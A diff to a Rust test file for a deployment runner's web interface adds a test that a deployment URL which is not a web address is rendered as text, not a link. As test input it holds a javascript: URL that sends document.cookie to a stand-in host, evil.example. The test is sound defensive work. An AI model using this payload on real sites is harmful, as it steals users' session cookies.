@@ -20,6 +20,11 @@ pub(crate) fn no_redirects() -> reqwest::Client {
 
 /// Queues a push job carrying `message`, and records a live deployment for it.
 async fn live_deployment(runner: &TestRunner, message: &str, sha: &str) -> (i64, i64) {
+    live_deployment_at(runner, message, sha, "http://127.0.0.1:1/").await
+}
+
+/// The same, the deployment at `url` (as a target or a terraform output named it).
+async fn live_deployment_at(runner: &TestRunner, message: &str, sha: &str, url: &str) -> (i64, i64) {
     let mut push = fixture_json("push.with-no-username-committer.payload.json");
     push["after"] = sha.into();
     push["head_commit"]["message"] = message.into();
@@ -39,7 +44,7 @@ async fn live_deployment(runner: &TestRunner, message: &str, sha: &str) -> (i64,
             image_ref: "127.0.0.1:5000/hello:abc",
             image_digest: Some("sha256:1111111111111111111111111111111111111111111111111111111111111111"),
             trigger: runner::job::Trigger::Push,
-            url: "http://127.0.0.1:1/",
+            url,
         },
         runner::store::now_ms(),
     )
@@ -54,6 +59,13 @@ async fn live_deployment(runner: &TestRunner, message: &str, sha: &str) -> (i64,
     )
     .await
     .expect("finish deployment");
+    // The job's attempt row (it failed at its checkout) was already there: name the URL.
+    sqlx::query("UPDATE deployments SET url = $1 WHERE id = $2")
+        .bind(url)
+        .bind(deployment.id)
+        .execute(runner.pool.db())
+        .await
+        .expect("set the URL");
     (job_id, deployment.id)
 }
 
@@ -531,4 +543,27 @@ async fn live_logs_stream_new_lines_and_resume_after_the_last_event_id() {
         .expect("GET");
     assert_eq!(bad.status(), 400);
     runner.stop().await;
+}
+
+#[tokio::test]
+async fn a_deployment_url_that_is_not_a_web_address_is_shown_as_text_never_as_a_link() {
+    let runner = TestRunner::start().await;
+    let hostile = "javascript:fetch('//evil.example/'+document.cookie)";
+    let (job_id, _) = live_deployment_at(&runner, "deploy", &"a".repeat(40), hostile).await;
+    let page = runner.get_text(&format!("/jobs/{job_id}")).await;
+    let shown = "javascript:fetch(&#39;//evil.example/&#39;+document.cookie)";
+    assert!(
+        page.contains(shown) || page.contains("javascript:fetch('//evil.example/'+document.cookie)"),
+        "{page}"
+    );
+    assert!(
+        !page.to_lowercase().contains("href=\"javascript:"),
+        "a javascript: URL became a link: {page}"
+    );
+
+    // A web address is still a link.
+    let (job_id, _) = live_deployment_at(&runner, "deploy", &"b".repeat(40), "https://app.example/").await;
+    let page = runner.get_text(&format!("/jobs/{job_id}")).await;
+    assert!(page.contains("href=\"https://app.example/\""), "{page}");
+    runner.stop_quickly().await;
 }
